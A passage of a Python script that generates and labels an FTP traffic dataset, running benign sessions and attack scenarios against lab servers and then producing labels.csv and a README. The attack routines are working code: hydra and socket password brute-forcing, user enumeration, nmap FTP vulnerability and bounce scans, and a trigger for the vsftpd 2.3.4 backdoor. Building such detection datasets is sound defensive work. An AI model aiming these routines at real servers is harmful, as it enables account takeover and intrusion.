        if rep[:3] in ("150", "125"):
            d.sendall(os.urandom(rng.randint(200, 1500)))
            d.close()
            r.reply()
        else:
            d.close()
    r.cmd("LIST" if rng.random() < 0.3 else "NOOP")
    if rng.random() < 0.5:
        r.cmd("QUIT")
    r.close()


def a_slow_drip(ctx, rng, server, src, budget: float) -> None:
    r = RawFTP(server, src, timeout=40)
    r.reply()
    t_end = time.time() + budget
    cmds = ["USER anonymous", "PASS slow@drip", "SYST", "PWD", "NOOP", "TYPE A", "CWD pub", "NOOP", "PWD", "STAT",
            "NOOP", "NOOP"]
    if rng.random() < 0.5:
        u = rng.choice(sorted(ctx.users))
        cmds[0:2] = [f"USER {u}", f"PASS {ctx.users[u]}"]
    for c in cmds:
        pause = rng.uniform(10, 30)
        if time.time() + pause > t_end:
            break
        time.sleep(pause)
        try:
            r.cmd(c)
        except OSError:
            break
    r.close()  # never QUIT


def a_connect_reset(ctx, rng, server, src) -> None:
    r = RawFTP(server, src, timeout=5)
    if rng.random() < 0.8:
        r.reply()
    for c in rng.sample(["USER anonymous", "SYST", "FEAT", "HELP", "NOOP", "USER root"], rng.randint(0, 3)):
        r.cmd(c)
    r.close(rst=rng.random() < 0.5)


def a_scanner_recon(ctx, rng, server, src) -> None:
    r = RawFTP(server, src, timeout=8)
    r.reply()
    if rng.random() < 0.5:  # the vsftpd 2.3.4 backdoor probe: a user name ending in ":)"
        r.cmd(f"USER {rng.choice(['x', 'root', 'anonymous', 'test'])}:)")
        r.cmd("PASS " + rng.choice(["x", "pass", "1234"]))
        time.sleep(0.3)
        try:
            socket.create_connection((SERVERS[server][0], 6200), timeout=1, source_address=(src, 0)).close()
        except OSError:
            pass
    else:
        r.cmd("USER anonymous")
        r.cmd("PASS " + rng.choice(["IEUser@", "mozilla@example.com", "nmap@scanme.org", "guest"]))
        for c in rng.sample(["SYST", "FEAT", "HELP", "STAT", "SITE HELP", "PWD", "HELP SITE"], rng.randint(3, 5)):
            r.cmd(c)
    if rng.random() < 0.5:
        r.cmd("QUIT")
    r.close()


def a_slow_brute(ctx, rng, server, src, i) -> None:
    r = RawFTP(server, src, timeout=15)
    r.reply()
    pws = [l.strip() for l in open(f"{HERE}/passwords.txt")]
    user = "heidi" if server != "pyftpdlib" else "grace"
    for k in range(rng.randint(2, 3)):
        rep = r.cmd(f"USER {user}")
        if not rep.startswith("331"):
            break
        rep = r.cmd("PASS " + pws[(i * 3 + k) % len(pws)])
        if not rep.startswith("530"):
            break
    r.close()


def bounce_listeners(stop: threading.Event) -> None:
    socks = []
    for port in BOUNCE_PORTS:
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((BOUNCE_TARGET, port))
        s.listen(64)
        s.settimeout(0.5)
        socks.append(s)

    def serve(s):
        while not stop.is_set():
            try:
                c, _ = s.accept()
                c.close()
            except OSError:
                pass
        s.close()

    for s in socks:
        threading.Thread(target=serve, args=(s,), daemon=True).start()


def cmd_attacks(a) -> None:
    runs = Runs(a.runs, "attacks")
    tmp = f"{a.work}/attack-tmp"
    subprocess.run(["rm", "-rf", tmp])
    os.makedirs(f"{tmp}/hydra")
    ctx = Ctx(a, runs, tmp)
    srcs = AttackSrc()
    seed = a.seed
    W = HERE
    only = set(a.only.split(",")) if a.only else None

    def want(s):
        return only is None or s in only

    stop = threading.Event()
    bounce_listeners(stop)
    bg = []

    # --- background: slow-drip and slow-bruteforce (own source addresses, run alongside the others)
    if want("slow-drip"):
        def drip_all():
            ts = []
            for i, server in enumerate(list(SERVERS) * 2):
                src = srcs.next()
                rng = random.Random(f"{seed}-drip-{i}")
                t = threading.Thread(target=run_py, args=(ctx, "attack", "slow-drip", server, src,
                                                          lambda s=server, r=rng, x=src: a_slow_drip(ctx, r, s, x, 150)),
                                     kwargs={"tool": "python3 socket"})
                t.start(); ts.append(t); time.sleep(rng.uniform(1, 5))
            for t in ts:
                t.join()
        bg.append(threading.Thread(target=drip_all))
    if want("slow-bruteforce"):
        def slow_brute_all():
            rng = random.Random(f"{seed}-slowbrute")
            for server in ["inetutils-ftpd", "pyftpdlib"]:
                src = srcs.next()
                for i in range(12):
                    run_py(ctx, "attack", "slow-bruteforce", server, src,
                           lambda s=server, k=i: a_slow_brute(ctx, rng, s, src, k), tool="python3 socket")
                    time.sleep(rng.uniform(2, 5))
        bg.append(threading.Thread(target=slow_brute_all))
    for t in bg:
        t.start()

    P = f"{W}/passwords.txt"
    if want("hydra-brute"):
        hydra(ctx, srcs, "hydra-brute", "pyftpdlib", ["-l", "ivan", "-P", P, "-t", "16", "-f"])
        hydra(ctx, srcs, "hydra-brute", "vsftpd-anonwrite", ["-l", "frank", "-P", P])
        hydra(ctx, srcs, "hydra-brute", "inetutils-ftpd", ["-l", "ivan", "-P", P, "-t", "4", "-f", "-e", "nsr"])
        pws50 = f"{tmp}/pw50.txt"
        open(pws50, "w").write("".join(open(P).readlines()[:50]))
        hydra(ctx, srcs, "hydra-brute", "bsd-ftpd", ["-l", "erin", "-P", pws50, "-t", "4"])
    if want("hydra-userenum"):
        hydra(ctx, srcs, "hydra-userenum", "inetutils-ftpd", ["-L", f"{W}/users.txt", "-p", "Winter2024!", "-t", "4"])
        hydra(ctx, srcs, "hydra-userenum", "vsftpd-anonwrite", ["-L", f"{W}/users.txt", "-P", f"{W}/spray.txt", "-u", "-t", "8"])
        hydra(ctx, srcs, "hydra-userenum", "pyftpdlib", ["-L", f"{W}/users.txt", "-p", "letmein2", "-t", "16"])
    if want("nmap-ftp-scripts"):
        scripts = "ftp-anon,ftp-syst,ftp-vsftpd-backdoor,ftp-libopie,ftp-proftpd-backdoor,ftp-vuln-cve2010-4221"
        for server in SERVERS:
            nmap(ctx, srcs, "nmap-ftp-scripts", server,
                 ["-sS", "-sV", "-p", str(SERVERS[server][1]), "--script", scripts, "--script-timeout", "90s"])
    if want("nmap-ftp-brute"):
        for server in ["vsftpd-anonwrite", "pyftpdlib"]:
            nmap(ctx, srcs, "nmap-ftp-brute", server,
                 ["-sS", "-sV", "-p", str(SERVERS[server][1]), "--script", "ftp-brute", "--script-args",
                  f"userdb={W}/nse-users.txt,passdb={W}/nse-pass.txt,brute.firstonly=true,unpwdb.timelimit=60s,brute.threads=4"])
    if want("nmap-bounce"):
        addr, port = SERVERS["pyftpdlib"]
        nmap(ctx, srcs, "nmap-bounce", "pyftpdlib",
             ["-b", f"ivan:{ctx.users['ivan']}@{addr}:{port}", "-p", "22,2525,8080,9000"], target=BOUNCE_TARGET)
        nmap(ctx, srcs, "nmap-bounce", "pyftpdlib",
             ["-b", f"anonymous:bounce@{addr}:{port}", "-p", "2525,8080,9000"], target=BOUNCE_TARGET)
        for server in SERVERS:
            nmap(ctx, srcs, "nmap-bounce", server,
                 ["-sS", "-sV", "-p", str(SERVERS[server][1]), "--script", "ftp-bounce", "--script-args",
                  f"ftp-bounce.checkhost={BOUNCE_TARGET}"])
    if want("cwd-climb-traversal"):
        for i in range(20):
            server = list(SERVERS)[i % 4]
            rng = random.Random(f"{seed}-climb-{i}")
            src = srcs.next() if i % 5 == 0 else src
            run_py(ctx, "attack", "cwd-climb-traversal", server, src, lambda: a_cwd_climb(ctx, rng, server, src),
                   tool="python3 socket")
    if want("anon-upload-warez"):
        src = srcs.next()
        for i in range(14):
            # mostly the anonymous-write vsftpd; one try each against BSD ftpd and read-only pyftpdlib
            server = "vsftpd-anonwrite" if i % 7 else ["bsd-ftpd", "pyftpdlib"][i // 7]
            rng = random.Random(f"{seed}-warez-{i}")
            run_py(ctx, "attack", "anon-upload-warez", server, src, lambda: a_anon_warez(ctx, rng, server, src, i),
                   tool="python3 socket")
            time.sleep(rng.uniform(0.2, 1.5))
    if want("connect-reset-burst"):
        src = srcs.next()
        rng = random.Random(f"{seed}-burst")
        for i in range(40):
            server = rng.choice(list(SERVERS))
            run_py(ctx, "attack", "connect-reset-burst", server, src, lambda: a_connect_reset(ctx, rng, server, src),
                   tool="python3 socket")
    if want("scanner-recon"):
        rng = random.Random(f"{seed}-recon")
        for i in range(24):
            server = list(SERVERS)[i % 4]
            src = srcs.next() if i % 8 == 0 else src
            run_py(ctx, "attack", "scanner-recon", server, src, lambda: a_scanner_recon(ctx, rng, server, src),
                   tool="python3 socket")
    for t in bg:
        t.join()
    stop.set()
    time.sleep(1)
    log("attacks done")


# ------------------------------------------------------------------------------------------------ labelling
def capture_syns(pcap: str) -> list[tuple]:
    """(ts, src, sport, dst, dport) of each client SYN to a server control port, retransmissions dropped."""
    out = subprocess.run(["tshark", "-r", pcap, "-n", "-Y", "tcp.flags.syn==1 && tcp.flags.ack==0", "-T", "fields",
                          "-e", "frame.time_epoch", "-e", "ip.src", "-e", "tcp.srcport", "-e", "ip.dst",
                          "-e", "tcp.dstport"], check=True, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL).stdout
    control = set(SERVERS.values())
    last: dict[tuple, float] = {}
    syns = []
    for line in out.decode().splitlines():
        ts, src, sport, dst, dport = line.split("\t")
        if (dst, int(dport)) not in control:
            continue
        key = (src, int(sport), dst, int(dport))
        t = float(ts)
        if key in last and t - last[key] < 10:  # a retransmitted SYN of the same connection
            last[key] = t
            continue
        last[key] = t
        syns.append((t, *key))
    return syns


def load_runs(path: str) -> list[dict]:
    with open(path) as f:
        return [json.loads(l) for l in f if l.strip()]


def label_phase(pcap: str, runs: list[dict]) -> tuple[list[dict], list[str]]:
    by_src = defaultdict(list)
    for r in runs:
        by_src[r["src"]].append(r)
    server_of = {v: k for k, v in SERVERS.items()}
    rows, errors = [], []
    used = Counter()
    for ts, src, sport, dst, dport in capture_syns(pcap):
        # runs on one address follow each other: strict containment first, a little slack only when that fails
        cands = [r for r in by_src.get(src, []) if r["t0"] <= ts <= r["t1"]]
        if not cands:
            cands = [r for r in by_src.get(src, []) if r["t0"] - 0.3 <= ts <= r["t1"] + 0.3]
        if len(cands) != 1:
            errors.append(f"{os.path.basename(pcap)}: {src}:{sport} -> {dst}:{dport} at {ts:.6f} matches "
                          f"{len(cands)} runs")
            continue
        r = cands[0]
        used[id(r)] += 1
        sname = server_of[(dst, dport)]
        if sname != r["server"] and r["scenario"] not in ("nmap-bounce",):
            errors.append(f"{src}:{sport} -> {dst}:{dport}: run {r['scenario']} was for {r['server']}, not {sname}")
        rows.append({"client_ip": src, "client_port": sport, "server_ip": dst, "server_port": dport,
                     "class": r["cls"], "scenario": r["scenario"], "server": sname, "_ts": ts})
    for r in runs:
        if not used[id(r)]:
            log(f"note: run without a control connection in the capture: {r['scenario']} {r['server']} {r['src']} "
                f"{r['tool']} rc={r['rc']} {r.get('out_tail', '')[-120:]!r}")
    return rows, errors


def phases_of(runs_dir: str) -> list[str]:
    """benign and attacks always; transfers when that capture was made (it came later and is optional)."""
    return ["benign", "attacks"] + (["transfers"] if os.path.exists(f"{runs_dir}/transfers.jsonl") else [])


def cmd_label(a) -> None:
    all_rows, errors = [], []
    for phase in phases_of(a.runs_dir):
        rows, errs = label_phase(f"{a.captures_dir}/{phase}.pcap", load_runs(f"{a.runs_dir}/{phase}.jsonl"))
        all_rows += rows
        errors += errs
    seen = {}
    for r in all_rows:
        k = (r["client_ip"], r["client_port"], r["server_ip"], r["server_port"])
        if k in seen:
            if any(seen[k][c] != r[c] for c in ("class", "scenario", "server")):
                errors.append(f"endpoints {k} occur in two connections with different labels")
            else:  # a later connection of the same run reused the endpoints: one row labels both
                log(f"note: endpoints {k} reused by two connections of one scenario; one row")
            continue
        seen[k] = r
    for e in errors[:50]:
        log("unmatched: " + e)
    if errors:
        raise SystemExit(f"label: {len(errors)} problems; nothing written")
    cols = ["client_ip", "client_port", "server_ip", "server_port", "class", "scenario", "server"]
    with open(f"{a.out}/labels.csv", "w", newline="") as f:
        w = csv.DictWriter(f, cols, extrasaction="ignore", lineterminator="\n")
        w.writeheader()
        w.writerows(seen.values())
    all_rows = list(seen.values())
    c = Counter((r["class"], r["scenario"], r["server"]) for r in all_rows)
    log(f"labels: {len(all_rows)} control connections, " + ", ".join(
        f"{k}={v}" for k, v in sorted(Counter(r['class'] for r in all_rows).items())))
    for k, v in sorted(c.items()):
        log(f"  {k}: {v}")


# ------------------------------------------------------------------------------------------------ README
def pkg_version(pkg: str) -> str:
    p = subprocess.run(["dpkg-query", "-W", "-f", "${Version}", pkg], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    if p.returncode == 0 and p.stdout:
        return p.stdout.decode()
    for deb in sorted(os.listdir(f"{WORK_DEBS}")) if os.path.isdir(WORK_DEBS) else []:
        if deb.startswith(pkg + "_"):
            return deb.split("_")[1].replace("%3a", ":") + " (apt-get download + dpkg -x)"
    return "?"


WORK_DEBS = ""


def md_table(header: list[str], rows: list[list]) -> str:
    out = ["| " + " | ".join(header) + " |", "|" + "---|" * len(header)]
    out += ["| " + " | ".join(str(c) for c in r) + " |" for r in rows]
    return "\n".join(out)


def client_of(tool: str) -> str:
    return tool.split()[0] if not tool.startswith("python3") else tool


def cmd_readme(a) -> None:
    global WORK_DEBS
    WORK_DEBS = f"{a.work}/debs"
    phases = phases_of(a.runs_dir)
    runs = {ph: load_runs(f"{a.runs_dir}/{ph}.jsonl") for ph in phases}
    with open(a.labels) as f:
        labels = list(csv.DictReader(f))
    key = lambda r: (r["client_ip"], str(r["client_port"]), r["server_ip"], str(r["server_port"]))
    lab = {key(r): r for r in labels}
    # sessions that ftp-extract emits, joined on endpoints
    ext = Counter()
    ext_keys = set()
    have_extract = all(os.path.exists(f"{a.stage}/extract-{ph}.csv") for ph in phases)
    last_cmd: dict[tuple, str] = {}
    if have_extract:
        for ph in phases:
            with open(f"{a.stage}/extract-{ph}.csv") as f:
                for r in csv.DictReader(f):
                    k = key(r)
                    if r["command"] != "<greeting>" and not r["command"].startswith("<"):
                        last_cmd[k] = r["command"]
                    if k in ext_keys:
                        continue
                    ext_keys.add(k)
                    l = lab.get(k)
                    ext[(l["class"], l["scenario"], l["server"]) if l else ("unlabelled", "-", "-")] += 1
    def records(kind: str):
        """(phase, record) of every ftp-flows record of that type in the staged NDJSON files."""
        for ph in phases:
            fp = f"{a.stage}/flows-{ph}.ndjson"
            if os.path.exists(fp):
                for line in open(fp):
                    r = json.loads(line)
                    if r.get("type") == kind:
                        yield ph, r

    ends: dict[tuple, str] = {}
    for _, fl in records("flow"):
        k = (fl["client"]["ip"], str(fl["client"]["port"]), fl["server"]["ip"], str(fl["server"]["port"]))
        ends[k] = fl.get("end", "?")
    # data connections ftp-flows linked, per capture, mode and direction (from its data records)
    xfer = defaultdict(list)
    for ph, d in records("data"):
        up, down = d["bytes"]["c"], d["bytes"]["s"]
        # passive: the FTP client is the data client; active: the server connects, so swap
        to_server, to_client = (up, down) if d["mode"] == "passive" else (down, up)
        way = "upload" if to_server > to_client else "download" if to_client else "empty"
        xfer[(ph, d["mode"], way)].append(max(up, down))
    data_rows = [[ph, mode, way, len(v), min(v), max(v), sum(v)] for (ph, mode, way), v in sorted(xfer.items())]
    data_table = md_table(["capture", "mode", "direction", "data connections", "smallest B", "largest B", "total B"],
                          data_rows) if data_rows else "(run with dist/ built to fill this table)"
    cnt = Counter((r["class"], r["scenario"], r["server"]) for r in labels)
    rows = []
    for k in sorted(cnt, key=lambda k: (k[0] != "benign", k[1], k[2])):
        rows.append([k[0], k[1], k[2], cnt[k], ext.get(k, 0) if have_extract else "n/a"])
    tot = Counter(r["class"] for r in labels)
    rows.append(["**total**", "", "", f"**{len(labels)}** (benign {tot['benign']}, attack {tot['attack']})",
                 f"**{sum(v for k, v in ext.items() if k[0] != 'unlabelled')}**" if have_extract else "n/a"])
    counts = md_table(["class", "scenario", "server", "control connections (labels.csv)", "sessions ftp-extract emits"], rows)
    if ext.get(("unlabelled", "-", "-")):
        counts += f"\n\nftp-extract also emitted {ext[('unlabelled', '-', '-')]} flows that are not in labels.csv."
    # per class x server
    srv = Counter((r["class"], r["server"]) for r in labels)
    by_server = md_table(["server", "benign", "attack"], [[s, srv[("benign", s)], srv[("attack", s)]] for s in SERVERS])
    # how sessions end, per client: last command sent (QUIT or not) and how TCP ended (ftp-flows `end`)
    run_of = {}
    for ph, rs in runs.items():
        by_src = defaultdict(list)
        for r in rs:
            by_src[r["src"]].append(r)
        for ts, s_ip, sport, d_ip, dport in capture_syns(f"{a.captures_dir}/{ph}.pcap"):
            c = [r for r in by_src.get(s_ip, []) if r["t0"] <= ts <= r["t1"]] or \
                [r for r in by_src.get(s_ip, []) if r["t0"] - 0.3 <= ts <= r["t1"] + 0.3]
            if len(c) == 1:
                run_of[(s_ip, str(sport), d_ip, str(dport))] = c[0]
    endc = defaultdict(Counter)
    for k, r in run_of.items():
        who = f"{r['cls']}: {client_of(r['tool'])}" + (f" ({r['scenario']})" if r["cls"] == "attack" else "")
        endc[who]["sessions"] += 1
        endc[who]["QUIT last" if last_cmd.get(k) == "QUIT" else "no QUIT"] += 1
        endc[who]["end=" + ends.get(k, "not a flow")] += 1
    end_cols = sorted({c for v in endc.values() for c in v if c.startswith("end=")})
    endings = md_table(["client", "sessions", "QUIT last", "no QUIT"] + end_cols,
                       [[w, v["sessions"], v["QUIT last"], v["no QUIT"]] + [v[c] for c in end_cols]
                        for w, v in sorted(endc.items())])
    # exact attack tool command lines
    cmds = []
    for r in runs["attacks"]:
        if r["argv"]:
            env = f"LD_PRELOAD=bindshim.so BIND_ADDR={r['src']} " if r["tool"] in ("hydra", "nmap") else ""
            cmds.append(f"- `{r['scenario']}` → {r['server']}, {r['t1'] - r['t0']:.0f} s: "
                        f"`{env}{' '.join(shlex.quote(x) for x in r['argv'])}`".replace(a.work, "$WORK")
                        .replace(HERE, "scripts/corpus2"))
    benign_examples = []
    seen = set()
    for r in runs["benign"]:
        if r["argv"] and r["scenario"] not in seen:
            seen.add(r["scenario"])
            env = f"LD_PRELOAD=bindshim.so BIND_ADDR={r['src']} " if r["tool"] == "ncftp" else ""
            benign_examples.append(f"- `{r['scenario']}`: `{env}{' '.join(shlex.quote(x) for x in r['argv'])}`"
                                   .replace(a.work, "$WORK"))
    vers = md_table(["software", "Debian package", "version"], [
        ["BSD ftpd (linux-ftpd-ssl 0.17)", "ftpd-ssl (what `ftpd` depends on)", pkg_version("ftpd-ssl")],
        ["inetd for both ftpds", "openbsd-inetd", pkg_version("openbsd-inetd")],
        ["GNU inetutils ftpd", "inetutils-ftpd", pkg_version("inetutils-ftpd")],
        ["pyftpdlib", "python3-pyftpdlib", pkg_version("python3-pyftpdlib")],
        ["vsftpd", "vsftpd", pkg_version("vsftpd")],
        ["Python", "python3.11", pkg_version("python3.11")],
        ["wget", "wget", pkg_version("wget")], ["ncftp", "ncftp", pkg_version("ncftp")],
        ["lftp", "lftp", pkg_version("lftp")], ["curl", "curl", pkg_version("curl")],
        ["hydra", "hydra", pkg_version("hydra")], ["nmap", "nmap", pkg_version("nmap")],
        ["tcpdump", "tcpdump", pkg_version("tcpdump")], ["tshark", "tshark", pkg_version("tshark")],
        ["OpenSSL", "openssl", pkg_version("openssl")]])
    text = open(a.template).read()
    for k, v in {"{{COUNTS}}": counts, "{{BY_SERVER}}": by_server, "{{ENDINGS}}": endings,
                 "{{ATTACK_COMMANDS}}": "\n".join(cmds), "{{BENIGN_EXAMPLES}}": "\n".join(benign_examples),
                 "{{VERSIONS}}": vers, "{{SEED}}": str(a.seed),
                 "{{DATA_CHANNELS}}": data_table}.items():
        text = text.replace(k, v)
    with open(a.out, "w") as f:
        f.write(text)
    log(f"wrote {a.out}")


# ------------------------------------------------------------------------------------------------ main
def main() -> None:
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("cmd", choices=["tree", "pyftpd", "benign", "attacks", "transfers", "label", "readme"])
    p.add_argument("--work", required=True)
    p.add_argument("--users", required=True)
    p.add_argument("--seed", default="1")
    p.add_argument("--listen")
    p.add_argument("--runs")
    p.add_argument("--n", help="benign jobs (default 380)")
    p.add_argument("--only", help="attacks: comma-separated scenarios")
    p.add_argument("--runs-dir")
    p.add_argument("--captures-dir")
    p.add_argument("--out")
    p.add_argument("--labels")
    p.add_argument("--stage")
    p.add_argument("--template")
    a = p.parse_args()
    {"tree": cmd_tree, "pyftpd": cmd_pyftpd, "benign": cmd_benign, "attacks": cmd_attacks, "transfers": cmd_transfers,
     "label": cmd_label,
     "readme": lambda a: cmd_readme(a)}[a.cmd](a)


if __name__ == "__main__":
    main()
